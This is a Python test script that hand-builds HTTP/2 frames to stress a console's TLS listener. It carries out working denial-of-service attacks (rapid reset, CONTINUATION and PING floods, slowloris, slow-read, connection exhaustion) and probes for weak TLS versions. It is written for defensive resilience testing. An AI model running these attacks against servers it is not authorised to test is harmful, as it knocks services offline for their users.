#!/usr/bin/env python3
"""A hostile HTTP/2 and TLS client for the console's listener tests (stdlib only).

It writes HTTP/2 frames by hand, so it can send what well-behaved libraries refuse to: rapid
resets, endless CONTINUATION frames, SETTINGS and PING floods, a request trickled a byte at a
time, oversized header blocks; and it opens TLS sessions with old versions and weak ciphers.
Each attack prints one JSON object: what it sent and what the server did.

    scripts/h2-abuse.py --port 8443 ATTACK [--count N] [--server-name localhost] [--declared-length N]

Attacks: rapid-reset, continuation, settings-flood, ping-flood, empty-data, slowloris, slow-read, handshake-idle,
header-size, tls-versions, connections, fingerprint, request.
"""
import argparse
import hashlib
import json
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, names and values not Huffman-coded."""

    def string(text):
        data = text.encode()
        if len(data) < 127:
            return bytes([len(data)]) + data
        # 7-bit prefix integer (RFC 7541 §5.1).
        out, rest = bytearray([127]), len(data) - 127
        while rest >= 128:
            out.append(rest % 128 + 128)
            rest //= 128
        out.append(rest)
        return bytes(out) + data

    return b"\x00" + string(name) + string(value)


def request_block(method, path, extra=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")] + list(extra)
    return b"".join(literal(n, v) for n, v in fields)


class Connection:
    def __init__(self, args, alpn=("h2",)):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(list(alpn))
        raw = socket.create_connection((args.host, args.port), timeout=args.timeout)
        self.sock = context.wrap_socket(raw, server_hostname=args.server_name)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.buffer = b""
        self.goaway = None
        self.resets = 0
        self.closed = False

    def send(self, data):
        """Sends; False once the server has closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.closed = True
            return False

    def read_frames(self, wait):
        """Reads frames for up to `wait` seconds (or until the connection closes); returns them."""
        frames, deadline = [], time.monotonic() + wait
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, TimeoutError):
                break
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload = self.buffer[9 : 9 + length]
                self.buffer = self.buffer[9 + length :]
                frames.append((kind, flags, stream, payload))
                if kind == SETTINGS and not flags & ACK:
                    self.send(frame(SETTINGS, ACK, 0))
                elif kind == GOAWAY:
                    self.goaway = int.from_bytes(payload[4:8], "big")
                elif kind == RST_STREAM:
                    self.resets += 1
        return frames

    def wait_closed(self, limit):
        start = time.monotonic()
        while not self.closed and time.monotonic() - start < limit:
            self.read_frames(0.2)
        return time.monotonic() - start

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def flood(args, make, name, opening=b"", batch=50):
    """Sends `opening`, then `count` units from `make(i)`, reading every `batch`; reports when the server stopped it."""
    connection = Connection(args)
    connection.read_frames(0.3)
    if opening:
        connection.send(opening)
    sent = 0
    for i in range(args.count):
        if not connection.send(make(i)):
            break
        sent += 1
        if i % batch == batch - 1:
            connection.read_frames(0.01)
            if connection.closed:
                break
    connection.wait_closed(5)
    result = {"attack": name, "sent": sent, "of": args.count, "closed": connection.closed, "goaway": connection.goaway}
    connection.close()
    return result


def rapid_reset(args):
    # HEADERS (a complete GET) and at once RST_STREAM(CANCEL), on ever new streams.
    return flood(args, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, request_block("GET", "/deepfence/ping"))
                 + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8)), "rapid-reset")


def continuation(args):
    # A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames.
    return flood(args, lambda i: frame(CONTINUATION, 0, 1, literal("x-pad-%d" % i, "y")), "continuation",
                 opening=frame(HEADERS, 0, 1, request_block("GET", "/deepfence/ping")), batch=10)


def settings_flood(args):
    return flood(args, lambda i: frame(SETTINGS, 0, 0), "settings-flood")


def ping_flood(args):
    return flood(args, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), "ping-flood")


def slowloris(args):
    # A POST whose body arrives one byte a second, never ending. With a declared length over
    # the route's limit the server answers 413 at once and drains the rest: that drain must be
    # bounded in time too.
    connection = Connection(args)
    connection.read_frames(0.3)
    connection.send(frame(HEADERS, END_HEADERS, 1, request_block(
        "POST", "/deepfence/controls/agent",
        [("content-type", "application/json"), ("content-length", str(args.declared_length))])))
    start, sent, answered = time.monotonic(), 0, False
    while not connection.closed and time.monotonic() - start < args.count:
        if not connection.send(frame(DATA, 0, 1, b" ")):
            break
        sent += 1
        frames = connection.read_frames(1.0)
        answered = answered or any(kind == HEADERS and stream == 1 for kind, _, stream, _ in frames)
    result = {"attack": "slowloris", "declared": args.declared_length, "bytes": sent, "answered": answered,
              "closed": connection.closed, "seconds": round(time.monotonic() - start, 2), "goaway": connection.goaway,
              "resets": connection.resets}
    connection.close()
    return result


def empty_data(args):
    # An open request stream fed DATA frames with no payload and no END_STREAM (CVE-2019-9518).
    connection = Connection(args)
    connection.read_frames(0.3)
    connection.send(frame(HEADERS, END_HEADERS, 1, request_block(
        "POST", "/deepfence/controls/agent", [("content-type", "application/json")])))
    sent = 0
    for _ in range(0, args.count, 100):
        if not connection.send(frame(DATA, 0, 1) * 100):
            break
        sent += 100
        connection.read_frames(0.01)
    connection.wait_closed(5)
    result = {"attack": "empty-data", "sent": sent, "closed": connection.closed, "goaway": connection.goaway}
    connection.close()
    return result


def slow_read(args):
    # HTTP/1.1, pipelined GETs sent for `count` seconds, answers never read, with a small receive
    # buffer: the server must stop reading (backpressure) and close the connection it cannot
    # write to.
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["http/1.1"])
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.settimeout(args.timeout)
    raw.connect((args.host, args.port))
    sock = context.wrap_socket(raw, server_hostname=args.server_name)
    request = b"GET /deepfence/ping HTTP/1.1\r\nHost: localhost\r\n\r\n" * 64
    sock.settimeout(0.5)
    start, sent, closed = time.monotonic(), 0, False
    while time.monotonic() - start < args.count:
        try:
            sock.sendall(request)
            sent += len(request)
        except (socket.timeout, TimeoutError):
            continue
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            closed = True
            break
    seconds = round(time.monotonic() - start, 2)
    sock.close()
    return {"attack": "slow-read", "bytes": sent, "closed": closed, "seconds": seconds}


def handshake_idle(args):
    # TCP only: no TLS ClientHello, ever.
    sock = socket.create_connection((args.host, args.port), timeout=args.count)
    start, closed = time.monotonic(), False
    try:
        closed = sock.recv(1) == b""
    except (socket.timeout, TimeoutError):
        closed = False
    except OSError:
        closed = True
    sock.close()
    return {"attack": "handshake-idle", "closed": closed, "seconds": round(time.monotonic() - start, 2)}


def header_size(args):
    connection = Connection(args)
    connection.read_frames(0.3)
    block = request_block("GET", "/deepfence/ping", [("x-big", "a" * args.count)])
    # Split into frames of 16 KiB (the default SETTINGS_MAX_FRAME_SIZE).
    chunks = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    data = b""
    for index, chunk in enumerate(chunks):
        last = index == len(chunks) - 1
        kind = HEADERS if index == 0 else CONTINUATION
        flags = (END_STREAM if index == 0 else 0) | (END_HEADERS if last else 0)
        data += frame(kind, flags, 1, chunk)
    connection.send(data)
    frames = connection.read_frames(3)
    answered = any(kind == HEADERS and stream == 1 for kind, _, stream, _ in frames)
    result = {"attack": "header-size", "bytes": args.count, "answered": answered, "reset": connection.resets > 0,
              "closed": connection.closed, "goaway": connection.goaway}
    connection.close()
    return result


def request(args):
    """A well-formed GET /deepfence/ping: the status, or null."""
    connection = Connection(args)
    connection.read_frames(0.2)
    connection.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("GET", "/deepfence/ping")))
    status = None
    deadline = time.monotonic() + 5
    while status is None and not connection.closed and time.monotonic() < deadline:
        for kind, _, stream, payload in connection.read_frames(0.2):
            if kind == HEADERS and stream == 1:
                # The server's first field is :status, an indexed field (0x88 = 200) or a literal.
                status = 200 if payload[:1] == b"\x88" else "other:" + payload[:8].hex()
    connection.close()
    return {"attack": "request", "status": status}


def tls_versions(args):
    def attempt(version, ciphers=None):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.minimum_version = version
        context.maximum_version = version
        if ciphers:
            context.set_ciphers(ciphers)
        elif version < ssl.TLSVersion.TLSv1_2:
            context.set_ciphers("DEFAULT:@SECLEVEL=0")
        try:
            with socket.create_connection((args.host, args.port), timeout=args.timeout) as raw:
                with context.wrap_socket(raw, server_hostname=args.server_name) as tls:
                    return {"accepted": True, "version": tls.version(), "cipher": tls.cipher()[0]}
        except (ssl.SSLError, OSError) as error:
            return {"accepted": False, "error": type(error).__name__}

    return {
        "attack": "tls-versions",
        "tls1.0": attempt(ssl.TLSVersion.TLSv1),
        "tls1.1": attempt(ssl.TLSVersion.TLSv1_1),
        "tls1.2-cbc": attempt(ssl.TLSVersion.TLSv1_2, "ECDHE-ECDSA-AES128-SHA:ECDHE-RSA-AES128-SHA:AES128-SHA:AES256-SHA256:@SECLEVEL=0"),
        "tls1.2-rsa-kx": attempt(ssl.TLSVersion.TLSv1_2, "AES128-GCM-SHA256:AES256-GCM-SHA384:@SECLEVEL=0"),
        "tls1.2-aead": attempt(ssl.TLSVersion.TLSv1_2, "ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256"),
        "tls1.3": attempt(ssl.TLSVersion.TLSv1_3),
    }


def connections(args):
    """Opens `count` TLS connections from this address and holds them; how many the server kept."""
    held, refused = [], 0
    for _ in range(args.count):
        try:
            held.append(Connection(args))
        except (ssl.SSLError, OSError):
            refused += 1
    time.sleep(0.5)
    alive = 0
    for connection in held:
        connection.read_frames(0.05)
        if not connection.closed:
            alive += 1
        connection.close()
    return {"attack": "connections", "opened": args.count, "alive": alive, "refused_or_closed": args.count - alive}


def fingerprint(args):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((args.host, args.port), timeout=args.timeout) as raw:
        with context.wrap_socket(raw, server_hostname=args.server_name) as tls:
            der = tls.getpeercert(binary_form=True)
    return {"attack": "fingerprint", "sha256": hashlib.sha256(der).hexdigest()}


ATTACKS = {
    "rapid-reset": (rapid_reset, 1000), "continuation": (continuation, 1000), "settings-flood": (settings_flood, 1000),
    "ping-flood": (ping_flood, 1000), "empty-data": (empty_data, 1000), "slow-read": (slow_read, 20), "slowloris": (slowloris, 30), "handshake-idle": (handshake_idle, 30),
    "header-size": (header_size, 65536), "tls-versions": (tls_versions, 0), "connections": (connections, 10),
    "fingerprint": (fingerprint, 0), "request": (request, 0),
}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--server-name", default="localhost")
    parser.add_argument("--count", type=int, help="frames, seconds, bytes or connections, by attack")
    parser.add_argument("--timeout", type=float, default=10)
    parser.add_argument("--declared-length", type=int, default=1000, help="slowloris: the content-length it declares")
    args = parser.parse_args()
    run, default = ATTACKS[args.attack]
    if args.count is None:
        args.count = default
    print(json.dumps(run(args)))


if __name__ == "__main__":
    sys.exit(main())
